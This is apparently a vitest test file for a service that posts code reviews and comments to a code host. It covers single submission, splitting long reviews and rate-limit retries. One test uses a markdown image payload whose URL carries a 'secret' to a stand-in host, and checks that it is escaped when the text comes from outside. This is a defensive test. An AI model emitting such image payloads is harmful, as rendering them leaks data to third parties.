import type { Bus, Draft, Message } from '@trunkline/bus';
import type { Principal } from '@trunkline/identity';
import { describe, expect, it } from 'vitest';
import { type CodehostClients, codehostFailure } from './clients.ts';
import { createPoster } from './posts.ts';

/** A code host that keeps what was written, and a bus that fails as often as is said. */
function place({ busFailures = 0 } = {}) {
  const reviews: { event: string; body: string }[] = [];
  const comments: string[] = [];
  const told: Draft[] = [];
  const write = async (body: string) => ({ data: { html_url: `comment-${comments.push(body)}` } });
  const rest = {
    pulls: {
      createReview: async (review: { event: string; body: string }) => ({
        data: { id: reviews.push(review), html_url: `review-${reviews.length}` },
      }),
    },
    issues: { createComment: ({ body }: { body: string }) => write(body) },
  };
  let left = busFailures;
  const publish = async (draft: Draft) => {
    left -= 1;
    if (left >= 0) throw new Error('the bus is away');
    told.push(draft);
  };
  const clients = { of: async () => ({ rest }) } as unknown as CodehostClients;
  const send = createPoster(clients, { publish } as unknown as Bus);
  const done: string[] = [];
  const attempt = (content: string, principal?: Principal) => {
    const topic = 'message.outbound.codehost.acme.rail.7.review';
    const given = { id: 'm', topic, correlationId: 'c', payload: { content }, principal };
    const message = given as unknown as Message;
    const arrived = (reference: string) => void done.push(reference);
    const { signal } = new AbortController();
    return send({ message, signal, isRepeat: false, done: [...done], arrived });
  };
  return { attempt, reviews, comments, told };
}

describe('a review', () => {
  it('is submitted once, also when only a later attempt could tell of it', async () => {
    const { attempt, reviews, told } = place({ busFailures: 1 });
    await expect(attempt('Verdict: approve\nFine.')).rejects.toThrow('the bus is away');
    await attempt('Verdict: approve\nFine.');
    expect(reviews).toHaveLength(1);
    expect(told.map(({ payload }) => payload)).toMatchObject([
      { owner: 'acme', repo: 'rail', prNumber: 7, event: 'APPROVE', prUrl: 'review-1' },
    ]);
  });

  it('shows no pictures after text from outside, which whoever opens the page would fetch', async () => {
    const picture = '![chart](https://a.example/?d=secret)';
    const asked: Principal = { kind: 'person', id: 'codehost:eve', via: [] };
    const origins = [{ kind: 'message', source: 'codehost:eve' }];
    const [clean, marked] = [place(), place()];
    await clean.attempt(picture, asked);
    await marked.attempt(picture, { ...asked, origins });
    expect([clean, marked].map(({ reviews }) => reviews[0]?.body.split('\n')[0])).toEqual([
      picture,
      `\\${picture}`,
    ]);
  });

  it('longer than the code host takes goes on in comments', async () => {
    const { attempt, reviews, comments } = place();
    const lines = Array.from({ length: 1500 }, (_, index) => `${index} ${'x'.repeat(60)}`);
    await attempt(['Verdict: request changes', ...lines].join('\n'));
    expect(reviews).toMatchObject([{ event: 'REQUEST_CHANGES' }]);
    const written = [...reviews.map(({ body }) => body), ...comments].join('\n');
    for (const line of lines) expect(written).toContain(line);
  });
});

const refusal = (status: number, message: string, headers: Record<string, string> = {}) =>
  codehostFailure(Object.assign(new Error(message), { status, response: { headers } }));

describe('a refusal of the code host', () => {
  it('that tells of its secondary limit is waited out for a minute where it does not say how long', () => {
    const words = 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.';
    expect(refusal(403, words)).toMatchObject({ permanent: false, retryAfterMs: 60_000 });
    expect(refusal(403, words, { 'retry-after': '7' })).toMatchObject({
      permanent: false,
      retryAfterMs: 7000,
    });
  });

  it('of another kind is final', () => {
    expect(refusal(403, 'Resource not accessible by integration')).toMatchObject({ permanent: true });
  });

  it('with a limit that does not say when it ends is not asked again at once', () => {
    const { permanent, retryAfterMs } = refusal(403, 'API rate limit exceeded', {
      'x-ratelimit-remaining': '0',
    });
    expect({ permanent, retryAfterMs }).toEqual({ permanent: false, retryAfterMs: 60_000 });
  });
});
